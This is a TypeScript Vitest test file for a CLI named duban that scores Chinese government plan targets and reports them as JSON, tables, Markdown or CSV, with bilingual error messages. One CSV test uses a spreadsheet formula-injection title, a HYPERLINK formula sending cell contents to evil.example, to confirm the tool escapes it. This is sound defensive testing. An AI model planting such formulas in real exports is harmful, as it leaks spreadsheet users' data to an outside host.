import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';

const root = fileURLToPath(new URL('../..', import.meta.url));
const fixture = join(root, 'test/fixtures/xianning-worked.plan.json');

async function run(args: string[], stdin = '') {
  let stdout = '';
  let stderr = '';
  const status = await main(args, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), stdin: () => stdin, now: Date.UTC(2018, 5, 30, 12) });
  return { status, stdout, stderr };
}

const tmp = () => mkdtempSync(join(tmpdir(), 'duban-cli-'));

describe('duban evaluate', () => {
  it('prints the documented JSON with --format json and exits 0', async () => {
    const { status, stdout, stderr } = await run(['evaluate', fixture, '--format', 'json']);
    expect(status).toBe(0);
    expect(stderr).toBe('');
    const output = JSON.parse(stdout);
    expect(Object.keys(output)).toEqual(['planId', 'asOf', 'ruleSet', 'results', 'gaps', 'summary', 'warnings']);
    expect(output.results[0]).toEqual({
      taskId: 'T09',
      title: '加快林业产业发展,实现产值200亿元',
      status: 'on-track',
      label: '有序推进',
      rule: '有序推进',
      facts: {
        kind: 'cumulative',
        cancelled: false,
        hasData: true,
        value: '55',
        target: '200',
        progress: '0.275',
        expected: '0.25',
        paceGap: '0.025',
        paceRatio: '1.1',
        met: false,
        onPace: true,
        margin: null,
        overdue: false,
        daysToDeadline: 275,
        overdueMilestones: 0,
        dataAgeDays: 0,
        dataCoversPeriod: false,
        flags: [],
      },
      explanation: '林业产值完成55亿元，为目标的27.5%，序时进度25%，超前2.5个百分点',
    });
    expect(output.summary.total).toBe(5);
  });

  it('prints an aligned table by default, with the counts in Chinese', async () => {
    const { status, stdout } = await run(['evaluate', fixture]);
    expect(status).toBe(0);
    expect(stdout).toContain('共5项：有序推进4项，需要加大力度1项');
    expect(stdout).toMatch(/T09\s+加快林业产业发展/);
    // The 差距 column names its unit: 个百分点 against 序时进度.
    expect(stdout).toMatch(/T09 .*\+2\.5个百分点/);
  });

  it('names the unit of a rate’s 差距 in the table (个百分点 for %, else the target’s unit)', async () => {
    const dir = tmp();
    const plan = join(dir, 'units.plan.json');
    const tasks = [
      {
        id: 'R1',
        title: '出口增长10%',
        target: { kind: 'rate', measure: '出口增长', unit: '%', value: '10', bound: 'atLeast' },
        observations: [{ asOf: '2018-06-30', value: '9.5' }],
      },
      {
        id: 'R2',
        title: '基金公司达到200家',
        target: { kind: 'rate', measure: '基金公司', unit: '家', value: '200', bound: 'atLeast' },
        observations: [{ asOf: '2018-06-30', value: '169' }],
      },
    ];
    writeFileSync(
      plan,
      JSON.stringify({ formatVersion: 1, id: 'u', title: 'u', period: { start: '2018-01-01', end: '2018-12-31' }, asOf: '2018-06-30', tasks }),
    );
    const { stdout } = await run(['evaluate', plan]);
    expect(stdout).toMatch(/R1 .*-0\.5个百分点/);
    expect(stdout).toMatch(/R2 .*-31家/);
  });

  it('prints Markdown with --format markdown', async () => {
    const { stdout } = await run(['evaluate', fixture, '--format', 'markdown', '--rules', 'three-level']);
    expect(stdout).toContain('| 完成 | 4 |');
    expect(stdout).toContain('| T09 |');
  });

  it("writes --format csv with a leading ' before text that would run as a formula, numbers as they are", async () => {
    const dir = tmp();
    const plan = join(dir, 'formula.plan.json');
    const title = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
    const task = {
      id: 'T1',
      title,
      target: { kind: 'rate', measure: '增速', unit: '%', value: '-0.5', bound: 'atLeast' },
      observations: [{ asOf: '2018-06-30', value: '-0.8' }],
    };
    writeFileSync(
      plan,
      JSON.stringify({ formatVersion: 1, id: 'f', title: 'f', period: { start: '2018-01-01', end: '2018-12-31' }, asOf: '2018-06-30', tasks: [task] }),
    );
    const { status, stdout } = await run(['evaluate', plan, '--format', 'csv']);
    expect(status).toBe(0);
    const row = stdout.split('\r\n')[1]!;
    expect(row.startsWith(`T1,"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",`)).toBe(true);
    expect(row).toContain(',rate,-0.8,-0.5,');
  });

  it('uses --as-of over the plan asOf', async () => {
    const { stdout } = await run(['evaluate', fixture, '--format', 'json', '--as-of', '2018-06-30']);
    expect(JSON.parse(stdout).asOf).toBe('2018-06-30');
    expect(JSON.parse(stdout).results[0].facts.expected).toBe('0.5');
  });

  it('merges observations from CSV with --observations', async () => {
    const dir = tmp();
    const csv = join(dir, 'h1.csv');
    writeFileSync(csv, 'taskId,asOf,value,unit,note\nT09,2018-06-30,120,亿元,上半年\n');
    const { status, stdout } = await run(['evaluate', fixture, '--format', 'json', '--as-of', '2018-06-30', '--observations', csv]);
    expect(status).toBe(0);
    expect(JSON.parse(stdout).results[0].facts.value).toBe('120');
  });

  it('reads the plan from stdin with -', async () => {
    const { status, stdout } = await run(['evaluate', '-', '--format', 'json'], readFileSync(fixture, 'utf8'));
    expect(status).toBe(0);
    expect(JSON.parse(stdout).planId).toBe('xianning-2018');
  });

  it('exits 1 and lists the gap when a rule file leaves a task without a status, still writing the output', async () => {
    const dir = tmp();
    const rules = join(dir, 'partial.json');
    writeFileSync(
      rules,
      JSON.stringify({
        formatVersion: 1,
        id: 'partial',
        title: 'only on pace',
        statuses: [{ code: 'ok', label: '正常' }],
        rules: [{ name: 'ok', priority: 1, conditions: { all: [{ fact: 'onPace', operator: 'equal', value: true }] }, event: { type: 'ok' } }],
      }),
    );
    const { status, stdout, stderr } = await run(['evaluate', fixture, '--rules', rules, '--format', 'json']);
    expect(status).toBe(1);
    const output = JSON.parse(stdout);
    expect(output.gaps.map((gap: { taskId: string }) => gap.taskId)).toEqual(['cost']);
    expect(output.results[2]).toMatchObject({ taskId: 'cost', status: null, label: null, rule: null });
    expect(stderr).toContain('"cost"');
  });

  it('exits 2 naming the file, path and value of every problem, and writes nothing to stdout or --out', async () => {
    const dir = tmp();
    const plan = join(dir, 'bad.json');
    const out = join(dir, 'out.json');
    writeFileSync(
      plan,
      JSON.stringify({
        formatVersion: 1,
        id: 'x',
        title: 'x',
        period: { start: '2018-01-01', end: '2018-12-31' },
        deadine: 1,
        tasks: [{ id: 'a', title: 'a', target: { kind: 'cumulative', measure: 'm', unit: '亿元', value: 'NaN' } }],
      }),
    );
    const { status, stdout, stderr } = await run(['evaluate', plan, '--format', 'json', '--out', out]);
    expect(status).toBe(2);
    expect(stdout).toBe('');
    expect(existsSync(out)).toBe(false);
    // The path, then the message: Chinese first, English after ` / `.
    expect(stderr).toContain(`${plan}: $.deadine: 未知的键 "deadine"`);
    expect(stderr).toContain(`/ unknown key "deadine"; valid keys: formatVersion, id, title,`);
    expect(stderr).toContain(`${plan}: $.tasks[0].target.value: 任务 a「a」的 target.value：不是精确的有限小数`);
    expect(stderr).toContain(`/ task a "a": target.value: not an exact finite decimal: "NaN"`);
  });

  it('reports problems in the plan and the rule file together', async () => {
    const dir = tmp();
    const plan = join(dir, 'bad.json');
    const rules = join(dir, 'rules.json');
    writeFileSync(plan, '{ "formatVersion": 1, ');
    writeFileSync(
      rules,
      JSON.stringify({
        formatVersion: 1,
        id: 'r',
        title: 'r',
        statuses: [{ code: 'a', label: 'A' }],
        rules: [{ name: 'x', priority: 0, conditions: { all: [{ fact: 'mett', operator: 'equal', value: true }] }, event: { type: 'b' } }],
      }),
    );
    const { status, stderr } = await run(['evaluate', plan, '--rules', rules]);
    expect(status).toBe(2);
    expect(stderr).toContain(`${plan}: $: 不是有效的 JSON`);
    expect(stderr).toContain('/ not valid JSON at line 1, column 23');
    expect(stderr).toContain(`${rules}: $.rules[0].priority`);
    expect(stderr).toContain(`${rules}: $.rules[0].conditions.all[0].fact: 规则「x」：未知的事实 "mett"；是否想写 "met"？`);
    expect(stderr).toContain(`/ rule "x": unknown fact "mett"; did you mean "met"?`);
    expect(stderr).toContain(`${rules}: $.rules[0].event.type: 规则「x」：状态 "b" 不在 statuses 中`);
    expect(stderr).toContain(`/ rule "x": event type "b" is not in statuses`);
  });

  it('exits 2 for an invalid --as-of, an unknown rule set, format or option, or a missing file', async () => {
    for (const args of [
      ['evaluate', fixture, '--as-of', '2018-02-30'],
      ['evaluate', fixture, '--rules', 'five-level'],
      ['evaluate', fixture, '--format', 'pdf'],
      ['evaluate', fixture, '--bogus'],
      ['evaluate', join(root, 'no-such-plan.json')],
      ['evaluate'],
      ['frobnicate'],
    ]) {
      const { status, stdout, stderr } = await run(args);
      expect({ args, status, stdout }).toEqual({ args, status: 2, stdout: '' });
      expect(stderr).toMatch(/^duban: /);
    }
  });

  it('writes --out atomically and prints nothing', async () => {
    const dir = tmp();
    const out = join(dir, 'result.json');
    const { status, stdout } = await run(['evaluate', fixture, '--format', 'json', '--out', out]);
    expect(status).toBe(0);
    expect(stdout).toBe('');
    expect(JSON.parse(readFileSync(out, 'utf8')).planId).toBe('xianning-2018');
  });

  it('prints help for duban --help and duban evaluate --help', async () => {
    expect((await run(['--help'])).stdout).toContain('duban evaluate PLAN.json');
    const help = await run(['evaluate', '--help']);
    expect(help.status).toBe(0);
    for (const option of ['--as-of', '--rules', '--observations', '--format', '--out']) expect(help.stdout).toContain(option);
  });
});

describe('the built duban binary', () => {
  const bin = join(root, 'dist/cli.js');
  it.skipIf(!existsSync(bin))('runs the main job on a bundled example and gives byte-identical output twice', () => {
    const args = [bin, 'evaluate', 'examples/xianning-2018-q1.plan.json', '--format', 'json'];
    const first = execFileSync(process.execPath, args, { cwd: root });
    const second = execFileSync(process.execPath, args, { cwd: root, env: { ...process.env, TZ: 'Pacific/Kiritimati', LANG: 'C' } });
    expect(first.equals(second)).toBe(true);
  });

  it.skipIf(!existsSync(bin))('exits 2 with no stack trace on a bad plan', () => {
    const result = spawnSync(process.execPath, [bin, 'evaluate', 'package.json'], { cwd: root, encoding: 'utf8' });
    expect(result.status).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect(result.stderr).toContain('package.json: $.formatVersion: 缺少必填的键 "formatVersion" / missing required key "formatVersion"');
  });
});
